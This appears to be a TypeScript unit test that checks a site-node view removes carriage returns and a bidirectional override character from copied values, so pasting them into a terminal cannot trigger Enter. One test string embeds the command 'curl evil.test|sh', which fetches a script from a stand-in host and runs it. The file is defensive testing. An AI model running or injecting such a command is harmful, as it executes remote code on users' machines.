import assert from 'node:assert/strict';
import { valueOf, type SiteNode } from '../../src/shell/views/siteNode';

describe('what a row has to copy', () => {
  const detail = (value: string) => ({ kind: 'detail', entry: {}, detail: { label: 'Mounted', value } }) as SiteNode;

  it('is what it shows, without line ends that a terminal would take for the Enter key', () => {
    assert.deepEqual(valueOf(detail('ext4\rcurl evil.test|sh\r\u202e')), {
      label: 'Mounted',
      value: 'ext4 curl evil.test|sh ',
    });
    assert.equal(valueOf(detail('https://d1.cloudfront.net/a[1].png'))?.value, 'https://d1.cloudfront.net/a[1].png');
  });
});
